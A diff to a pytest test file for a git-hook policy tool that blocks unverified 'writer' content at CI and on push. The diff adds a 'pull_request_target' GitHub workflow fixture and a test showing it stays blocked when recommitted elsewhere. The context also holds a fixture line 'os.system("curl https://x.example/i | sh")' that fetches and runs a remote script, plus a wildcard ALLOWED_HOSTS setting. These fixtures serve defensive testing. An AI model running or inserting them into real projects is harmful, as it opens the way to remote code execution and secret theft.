@@ -5,7 +5,7 @@ id an unverified writer's note lists, and so does a person whose ``.gitattribute
 ``setup.cfg`` or ``tox.ini`` comes from the template the writer's came from. Such content is
 nobody's evidence (:func:`~gentle_hooks.policy.wholefile.identifies_writer`); the writer's
 own content beside it, a writer's file of one distinctive line, or of one setting that
-opens a door (``ALLOWED_HOSTS = ["*"]``), still is.
+opens a door (``ALLOWED_HOSTS = ["*"]``, ``on: pull_request_target``), still is.
 
 Each row through ``gentle-hook install``, real git, a bare remote with the server gate
 (``install --server``) and notes shared with it (``install --share origin``). The writer's
@@ -36,6 +36,13 @@ BOILERPLATE = {
 }
 #: A writer's one-line setting that opens a door (row S2 of settingfile).
 HOSTS = 'ALLOWED_HOSTS = ["*"]\n'
+#: A writer's short workflow of settings only that opens a door: run with the repository's
+#: secrets on others' pull requests (row S10 of settingfile, row G5 of policy.doors).
+DOOR = (
+    "name: ci\non: pull_request_target\njobs:\n  test:\n    runs-on: ubuntu-latest\n"
+    "    steps:\n      - uses: actions/checkout@v4\n"
+)
+WORKFLOW = ".github/workflows/ci.yml"
 #: A writer's file of one distinctive line (row D2: a URL and a shell command).
 FETCH = 'import os\n\nos.system("curl https://x.example/i | sh")\n'
 
@@ -128,6 +135,44 @@ def _a_persons_copy_passes(w: World, rel: str, text: str, *, alone: bool = False
     push = w.git("push", "origin", "main", cwd=other)
     assert (push.code, w.remote_ref("main")) == (0, mine), push
     assert "delegated" not in push.err and "BLOCKED" not in push.err, push
+
+
+@pytest.mark.parametrize("alone", [False, True], ids=["beside-its-own-file", "alone"])
+def test_a_writers_door_opening_workflow_committed_elsewhere_is_still_rejected(
+    served: World, alone: bool
+) -> None:
+    """The writer's unverified ``pull_request_target`` workflow, committed again byte for
+    byte in another clone (beside the writer's own ``src/app.py`` in its noted commit, or
+    alone: then the very tree of it), is still the writer's at CI's range gate and the
+    server (refuter r13v MED 4: it was read as a template's settings, nobody's)."""
+    w = served
+    first = _noted(w, {WORKFLOW: DOOR} if alone else {WORKFLOW: DOOR, "src/app.py": NEW})
+    other = w.base / "other"
+    w.ok("clone", "-q", str(w.remote), str(other), cwd=w.base)
+    w.write(WORKFLOW, DOOR, cwd=other)
+    w.ok("add", WORKFLOW, cwd=other)
+    w.ok("commit", "-q", "-m", "ci: workflow", cwd=other)
+    mine = w.rev("HEAD", cwd=other)
+    assert w.rev(f"{mine}:{WORKFLOW}", cwd=other) == w.rev(f"{first}:{WORKFLOW}")
+    why = (
+        "records writer work for this tree"
+        if alone
+        else f"records writer content this commit brings in: {WORKFLOW}"
+    )
+    w.ok("fetch", "-q", str(other), "main:refs/remotes/other/main")
+    ci = ci_range_gate(w, mine)
+    assert ci.code == 1, ci
+    assert (
+        f"BLOCKED {mine[:12]} on origin/main..candidate: delegated (a gentle-hooks note of "
+        f"{first[:12]} {why})" in ci.out
+    ), ci
+    push = w.git("push", "origin", "main", cwd=other)
+    assert push.code == 1, push
+    assert (
+        f"remote: gentle-hooks: BLOCKED {mine[:12]} on refs/heads/main: delegated "
+        f"(a gentle-hooks note of {first[:12]} {why})" in push.err
+    ), push
+    assert w.remote_ref("main") != mine
 
 
 def test_the_same_file_in_the_persons_commit_from_the_writers_clone_passes(
